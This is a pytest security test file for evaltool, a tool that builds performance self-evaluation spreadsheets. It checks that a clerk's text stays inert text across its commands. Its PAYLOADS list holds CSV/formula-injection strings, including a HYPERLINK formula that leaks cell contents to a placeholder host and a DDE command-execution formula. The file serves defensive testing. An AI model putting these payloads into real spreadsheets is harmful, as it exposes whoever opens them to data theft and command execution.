"""Security: what a clerk's text, a case file or a template can make evaltool do (issue 18, issue 12 item 3).

Every file is written by the real commands (CliRunner over evaltool's click group) and read back from
its bytes: the sheet XML, the .docx, the YAML.
"""
from __future__ import annotations

import copy
import os
import re
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from lxml import etree

from evaltool.cli import main
from evaltool.core.model import REPORT_FIELDS

CASES = Path(__file__).parent / "cases"
BASE_CASE = CASES / "seed002-各项工作运转经费.yaml"
NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}

PAYLOADS = [
    '=HYPERLINK("http://example.invalid/?d="&A1,"点击查看")',
    '=cmd|"/c calc"!A1',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]
# CI runs a sample; EVALTOOL_FULL_SECURITY=1 runs every payload through every path.
SAMPLE = PAYLOADS if os.environ.get("EVALTOOL_FULL_SECURITY") else [PAYLOADS[0], PAYLOADS[5], PAYLOADS[7]]


def run(*args: str, ok=(0, 1)):
    result = CliRunner().invoke(main, list(args))
    assert result.exit_code in ok, (args, result.exit_code, result.output)
    return result


def payload_case(payload: str) -> dict:
    """The seed case with every text field the clerk types set to payload."""
    d = yaml.safe_load(BASE_CASE.read_text("utf-8"))
    d = copy.deepcopy(d)
    for key in ("项目名称", "主管部门", "实施单位"):
        d[key] = payload
    d["年度总体目标"] = {"预期目标": payload, "实际完成情况": payload}
    for ind in d["绩效指标"]:
        for key in ("三级指标", "偏差原因分析及改进措施"):
            ind[key] = payload
    d["绩效指标"][0]["年度指标值"] = payload
    d["绩效指标"][0]["实际完成值"] = payload
    d["报告素材"] = {key: payload for key in REPORT_FIELDS}
    d["项目基本信息"] = {"项目负责人": payload, "联系电话": payload}
    return d


def write_case(d: dict, path: Path) -> Path:
    path.write_text(yaml.safe_dump(d, allow_unicode=True, sort_keys=False), "utf-8")
    return path


def sheet_cells(path: Path) -> list[dict]:
    """Every cell of every worksheet, from the XML: sheet, ref, t, formula?, text, quotePrefix of its style."""
    out = []
    with zipfile.ZipFile(path) as zf:
        names = zf.namelist()
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            root = etree.fromstring(zf.read("xl/sharedStrings.xml"))
            shared = ["".join(si.itertext()) for si in root.findall("m:si", NS)]
        styles = etree.fromstring(zf.read("xl/styles.xml"))
        xfs = styles.find("m:cellXfs", NS)
        quote = [xf.get("quotePrefix") in ("1", "true") for xf in xfs.findall("m:xf", NS)] if xfs is not None else []
        for name in names:
            if not re.match(r"xl/worksheets/[^/]+\.xml$", name):
                continue
            root = etree.fromstring(zf.read(name))
            for c in root.iter("{%s}c" % NS["m"]):
                t = c.get("t", "n")
                v = c.find("m:v", NS)
                if t == "s" and v is not None:
                    text = shared[int(v.text)]
                elif t == "inlineStr":
                    inline = c.find("m:is", NS)
                    text = "".join(inline.itertext()) if inline is not None else ""
                else:
                    text = v.text if v is not None else None
                s = int(c.get("s", "0"))
                out.append({"sheet": name, "ref": c.get("r"), "t": t, "formula": c.find("m:f", NS) is not None,
                            "text": text, "quote": quote[s] if s < len(quote) else False})
    return out


def assert_text_only(path: Path, payload: str, min_hits: int = 1) -> None:
    """No formula anywhere; every cell holding the payload is a text cell marked quotePrefix."""
    cells = sheet_cells(path)
    formulas = [c for c in cells if c["formula"]]
    assert not formulas, f"{path.name}: formulas written: {formulas[:3]}"
    hits = [c for c in cells if c["text"] is not None and payload in c["text"]]
    assert len(hits) >= min_hits, f"{path.name}: payload {payload!r} not found as text"
    for c in hits:
        assert c["t"] in ("s", "inlineStr"), c
        if c["text"] == payload:
            assert c["quote"], f"{path.name} {c['sheet']} {c['ref']}: {payload!r} without quotePrefix"


@pytest.mark.parametrize("payload", SAMPLE)
def test_clerk_text_stays_text_in_every_file(tmp_path, payload):
    case = write_case(payload_case(payload), tmp_path / "case.yaml")
    # new --from a case file holding the payload (it also scores the new workbook in place).
    made = tmp_path / "自评表.xlsx"
    run("new", "--from", str(case), "-o", str(made))
    assert_text_only(made, payload, min_hits=10)
    # score in place, twice (the second run reads the 校验结果 sheet the first one wrote).
    run("score", str(made))
    run("score", str(made))
    assert_text_only(made, payload, min_hits=10)
    # score -o
    other = tmp_path / "另存.xlsx"
    run("score", str(made), "-o", str(other))
    assert_text_only(other, payload, min_hits=10)
    # export -> the clerk's text exactly, then new --from the export
    exported = tmp_path / "导出.yaml"
    run("export", str(made), "-o", str(exported))
    data = yaml.safe_load(exported.read_text("utf-8"))
    assert data["项目名称"] == payload and data["主管部门"] == payload and data["实施单位"] == payload
    # The reader trims whitespace around the long texts (goals, 报告素材); the rest is kept exactly.
    assert data["年度总体目标"]["预期目标"] == payload.strip()
    assert all(i["三级指标"] == payload for i in data["绩效指标"])
    assert all(data["报告素材"][key] == payload.strip() for key in REPORT_FIELDS)
    assert data["项目基本信息"]["项目负责人"] == payload
    again = tmp_path / "再建.xlsx"
    run("new", "--from", str(exported), "-o", str(again))
    assert_text_only(again, payload, min_hits=10)
    # collect: the 汇总 holds project, department, unit names as text
    folder = tmp_path / "收到"
    folder.mkdir()
    for i, f in enumerate((made, again)):
        (folder / f"{i}.xlsx").write_bytes(f.read_bytes())
    summary = tmp_path / "汇总.xlsx"
    run("collect", str(folder), "-o", str(summary))
    assert_text_only(summary, payload, min_hits=3)


def test_clerk_text_is_stored_byte_for_byte(tmp_path):
    """The value read back is exactly the clerk's text: no apostrophe, no stripped tab or CR."""
    import openpyxl

    for n, payload in enumerate(PAYLOADS):
        case = write_case(payload_case(payload), tmp_path / f"c{n}.yaml")
        made = tmp_path / f"w{n}.xlsx"
        run("new", "--from", str(case), "-o", str(made))
        ws = openpyxl.load_workbook(made)["自评表"]
        assert ws["C3"].value == payload and ws["C3"].data_type == "s"


@pytest.mark.parametrize("payload", SAMPLE[:1])
def test_report_keeps_clerk_text_verbatim(tmp_path, payload):
    import docx

    case = write_case(payload_case(payload), tmp_path / "case.yaml")
    out = tmp_path / "报告.docx"
    run("report", str(case), "-o", str(out))
    doc = docx.Document(str(out))
    texts = [p.text for p in doc.paragraphs] + [c.text for t in doc.tables for r in t.rows for c in r.cells]
    assert any(payload in t for t in texts)
    assert not any(("'" + payload) in t for t in texts)
